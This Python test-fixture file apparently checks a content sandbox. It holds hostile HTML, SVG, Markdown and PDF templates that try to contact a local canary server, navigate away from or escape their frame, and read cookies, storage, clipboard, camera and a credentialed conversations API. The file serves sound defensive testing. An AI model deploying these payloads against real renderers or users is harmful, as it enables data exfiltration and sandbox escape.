"""Files that try everything: to reach the canary, to read what is the user's, to leave the frame."""

from __future__ import annotations

# Each part alone is a page; "{at}" is the canary, "{host}" its host and port, "{named}" the canary
# under a name.
CONTACTS = {
    "img": "<img src='{at}/img'>",
    "srcset": "<img srcset='{at}/srcset 1x'>",
    "script": "<script src='{at}/script'></script>",
    "module": "<script type=module>import '{at}/module'</script>",
    "dynamic import": "<script>import('{at}/dynamic').catch(() => 0)</script>",
    "stylesheet": "<link rel=stylesheet href='{at}/css'>",
    "css url": "<style>body {{ background: url({at}/cssurl); }} @import '{at}/import';</style>",
    "font": "<style>@font-face {{ font-family: x; src: url({at}/font) }}</style><p style='font-family:x'>x",
    "icon and manifest": "<link rel=icon href='{at}/icon'><link rel=manifest href='{at}/manifest'>",
    "prefetch": "<link rel=prefetch href='{at}/pf'><link rel=preload as=image href='{at}/pl'>"
    "<link rel=modulepreload href='{at}/mp'><link rel=prerender href='{at}/pr'>",
    "preconnect": "<link rel=preconnect href='{at}'><link rel=preconnect href='{named}'>",
    "dns-prefetch": "<link rel=dns-prefetch href='{named}'>",
    "preconnect by script": "<script>const l = document.createElement('link'); l.rel = 'preconnect';"
    "l.href = '{named}'; document.head.append(l)</script>",
    "speculation rules": '<script type=speculationrules>{{"prefetch": [{{"urls": ["{at}/sp"]}}],'
    '"prerender": [{{"urls": ["{at}/spr"]}}]}}</script>',
    "iframe": "<iframe src='{at}/iframe'></iframe>",
    "srcdoc": "<iframe srcdoc=\"<img src='{at}/srcdoc'>\"></iframe>",
    "object": "<object data='{at}/object'></object><embed src='{at}/embed'>",
    "media": "<video src='{at}/video' autoplay></video><audio src='{at}/audio' autoplay></audio>"
    "<video><track default src='{at}/track'></video>",
    "svg": "<svg><image href='{at}/svgimage'/><use href='{at}/use#x'/></svg>",
    "fetch": "<script>fetch('{at}/fetch').catch(() => 0)</script>",
    "fetch no-cors": "<script>fetch('{at}/nocors', {{mode: 'no-cors', method: 'POST', body: 'x'}})"
    ".catch(() => 0)</script>",
    "xhr": "<script>try {{ const x = new XMLHttpRequest(); x.open('GET', '{at}/xhr'); x.send() }}"
    "catch {{}}</script>",
    "beacon": "<script>navigator.sendBeacon('{at}/beacon', 'x')</script>",
    "websocket": "<script>try {{ new WebSocket('ws://{host}/ws') }} catch {{}}</script>",
    "event source": "<script>try {{ new EventSource('{at}/es') }} catch {{}}</script>",
    "web transport": "<script>try {{ new WebTransport('https://{host}/wt') }} catch {{}}</script>",
    "webrtc": "<script>const p = new RTCPeerConnection({{iceServers: [{{urls: 'stun:{host}'}}]}});"
    "p.createDataChannel('x'); p.createOffer().then(o => p.setLocalDescription(o))</script>",
    "worker": "<script>new Worker(URL.createObjectURL(new Blob([\"fetch('{at}/worker')\"])))</script>",
    "javascript url": "<iframe src=\"javascript:fetch('{at}/js')\"></iframe>",
}
"""What is loaded or connected to, while the page stays where it is."""

DEPARTURES = {
    "blank frame": "<iframe id=f></iframe><script>f.contentWindow.location = '{at}/blank';"
    "f.contentWindow.fetch('{at}/blankfetch').catch(() => 0)</script>",
    "webrtc of a blank frame": "<iframe id=f></iframe><script>const p = new f.contentWindow."
    "RTCPeerConnection({{iceServers: [{{urls: 'stun:{host}'}}]}}); p.createDataChannel('x');"
    "p.createOffer().then(o => p.setLocalDescription(o))</script>",
    "self navigation": "<script>location = '{at}/self?d=secret'</script>",
    "navigation by link": "<a id=a href='{at}/link' ping='{at}/ping'>x</a><script>a.click()</script>",
    "top navigation": "<script>try {{ top.location = '{at}/top' }} catch {{}}</script>",
    "parent navigation": "<a id=a target=_parent href='{at}/parent'>x</a><script>a.click()</script>",
    "meta refresh": "<meta http-equiv=refresh content='0; url={at}/refresh'>",
    "form": "<form id=q method=post action='{at}/form'><input name=a value=secret></form>"
    "<script>q.submit()</script>",
    "form in another window": "<form id=q method=post target=_blank action='{at}/formblank'></form>"
    "<script>q.submit()</script>",
    "popup": "<script>window.open('{at}/popup'); open('about:blank').location = '{at}/p2'</script>",
    "base": "<base href='{at}/'><img src=based><script src=based.js></script>",
    "csp report": "<meta http-equiv=Content-Security-Policy content=\"img-src 'none';"
    'report-uri {at}/report"><img src=x>',
}
"""What leads away, opens something, or changes the page for the parts that follow it."""

READS = """<script>
const found = {};
const keep = (name, read) => { try { const value = read(); if (value) found[name] = String(value); }
                               catch (error) {} };
keep('cookie', () => { document.cookie = 'planted=1; path=/'; return document.cookie; });
keep('localStorage', () => { localStorage.x = 1; return localStorage.x; });
keep('sessionStorage', () => { sessionStorage.x = 1; return sessionStorage.x; });
keep('parent document', () => parent.document.title);
keep('top location', () => top.location.href);
keep('opener', () => window.opener);
keep('frame element', () => window.frameElement);
keep('origin', () => self.origin === 'null' ? '' : self.origin);
keep('window name', () => window.name);
keep('referrer', () => document.referrer);
const waits = [];
const later = (name, read) => waits.push((async () => {
  try { const value = await read(); if (value) found[name] = String(value); } catch (error) {} })());
later('api', async () => (await fetch('/sandbox/api/conversations', {credentials: 'include'})).text());
later('api no-cors', async () => (await fetch('/api/kernels',
  {mode: 'no-cors', method: 'POST', credentials: 'include', body: '{}'})).type);
later('indexedDB', () => new Promise((done, fail) => { const r = indexedDB.open('x');
  r.onsuccess = () => done('opened'); r.onerror = fail; }));
later('caches', async () => { await caches.open('x'); return 'opened'; });
later('service worker', async () => { await navigator.serviceWorker.register('/sw.js'); return 'yes'; });
later('clipboard', () => navigator.clipboard.readText());
later('position', () => new Promise((done, fail) =>
  navigator.geolocation.getCurrentPosition(() => done('yes'), fail)));
later('camera', async () => { await navigator.mediaDevices.getUserMedia({video: true}); return 'yes'; });
Promise.race([Promise.all(waits), new Promise(r => setTimeout(r, 3000))]).then(() => {
  const out = document.createElement('pre'); out.id = 'found'; out.textContent = JSON.stringify(found);
  document.body.append(out); });
</script><body>reading"""

SVG = """<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"
 viewBox="0 0 10 10" onload="fetch('{at}/onload')"><script href="{at}/script"/><script>
fetch('{at}/inline'); location = '{at}/nav'; document.cookie = 'planted=1'</script>
<style>@import '{at}/css'; rect {{ fill: url({at}/fill#x) }}</style>
<image href="{at}/image" width="5" height="5"/><use xlink:href="{at}/use#x"/>
<foreignObject width="10" height="10"><body xmlns="http://www.w3.org/1999/xhtml">
<iframe src="{at}/frame"></iframe><img src="{at}/img"/></body></foreignObject>
<a href="{at}/a"><rect width="10" height="10"/></a></svg>"""

MARKDOWN = """# Hostile

![img]({at}/img) ![ref][r] <img src="{at}/html" onerror="fetch('{at}/onerror')">
[script](javascript:fetch('{at}/js')) [data](data:text/html,<script>1</script>)
[unclosed](java&#115;cript:alert(1)) <a href="&#x6a;avascript:1" ping="{at}/ping">x</a>

[r]: {at}/ref

<script src="{at}/script"></script><script>fetch('{at}/inline')</script>
<link rel=preconnect href="{named}"><link rel=stylesheet href="{at}/css">
<meta http-equiv=refresh content="0; url={at}/refresh"><base href="{at}/">
<style>body {{ background: url({at}/cssurl) }}</style>
<iframe src="{at}/iframe"></iframe><object data="{at}/object"></object><embed src="{at}/embed">
<form action="{at}/form"><button formaction="{at}/fa" autofocus onfocus="this.click()">b</button></form>
<svg onload="fetch('{at}/svg')"><image href="{at}/svgimage"/></svg>
<table background="{at}/background"><tr><td style="background: url({at}/td)">x</td></tr></table>
<video src="{at}/video" autoplay poster="{at}/poster"></video>
<input type=image src="{at}/input"><div style="background-image: url({at}/div)">x</div>
<img srcset="{at}/srcset 1x"><picture><source srcset="{at}/picture"><img></picture>

| a | b |
|---|---|
| ![x]({at}/cell) | <img src='{at}/cell2'> |

```html "onload=fetch('{at}/fence')
<img src="{at}/code">
```

<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src={at}/mx onerror=1&gt;">
"""


PDF = """%PDF-1.7
1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R/AA<</WC 5 0 R>>>>endobj
2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj
3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/AA<</O 5 0 R>>/Annots[6 0 R]>>endobj
4 0 obj<</S/URI/URI({at}/openaction)/Next 5 0 R>>endobj
5 0 obj<</S/JavaScript/JS(app.launchURL\\("{at}/launch"\\); this.submitForm\\("{at}/submit"\\);
this.getURL\\("{at}/geturl"\\);)>>endobj
6 0 obj<</Type/Annot/Subtype/Link/Rect[0 0 200 200]/A<</S/URI/URI({at}/link)>>>>endobj
trailer<</Root 1 0 R>>
%%EOF
"""


def page(part: str, canary) -> bytes:
    """Give a hostile file that means this canary."""
    return part.format(
        at=canary.url, named=canary.named_url, host=f"127.0.0.1:{canary.port}"
    ).encode()
